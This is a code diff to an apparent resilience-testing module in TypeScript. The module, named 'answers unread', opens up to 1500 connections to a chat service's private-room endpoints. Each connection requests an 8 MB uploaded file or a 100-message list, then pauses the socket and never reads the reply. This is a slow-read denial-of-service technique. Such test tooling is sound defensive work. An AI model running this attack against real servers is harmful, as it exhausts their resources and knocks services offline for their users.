@@ -1,25 +1,16 @@
 import { setTimeout as delay } from 'node:timers/promises';
 import type { Attack } from './attack.ts';
+import { putOwnFile } from './own-file.ts';
 
 const mostHeld = 1500;
-const fileBytes = 8 * 1024 ** 2;
 
 export const unreadAnswers: Attack = {
   name: 'answers unread',
   does: '1500 connections that ask for an 8 MB file of their own, or for a heavy list, and do not read',
-  async run({ elsewhere, scene, time, note }) {
-    const path = `/api/chat/rooms/${scene.privateRoomId}`;
-    const body = Buffer.concat([
-      Buffer.from('--snow\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\n\r\n'),
-      Buffer.alloc(fileBytes),
-      Buffer.from('\r\n--snow--\r\n'),
-    ]);
-    const sent = await elsewhere.send('POST', `${path}/upload`, {
-      body,
-      headers: { 'content-type': 'multipart/form-data; boundary=snow' },
-    });
-    const file = (JSON.parse(sent?.body || '{}') as { message?: { fileUrl: string } }).message?.fileUrl;
-    const list = `${path}/messages?limit=100`;
+  async run(target) {
+    const { elsewhere, scene, time, note } = target;
+    const list = `/api/chat/rooms/${scene.privateRoomId}/messages?limit=100`;
+    const file = (await putOwnFile(target)) ?? list;
     let held = 0;
     const one = async () => {
       while (!time.aborted && held < mostHeld) {
@@ -27,7 +18,7 @@ export const unreadAnswers: Attack = {
         const socket = await elsewhere.dial();
         socket.pause();
         socket.once('close', () => !time.aborted && note('ended by the server'));
-        socket.write(elsewhere.head('GET', file && held % 2 ? file : list));
+        socket.write(elsewhere.head('GET', held % 2 ? file : list));
         await delay(5);
       }
     };
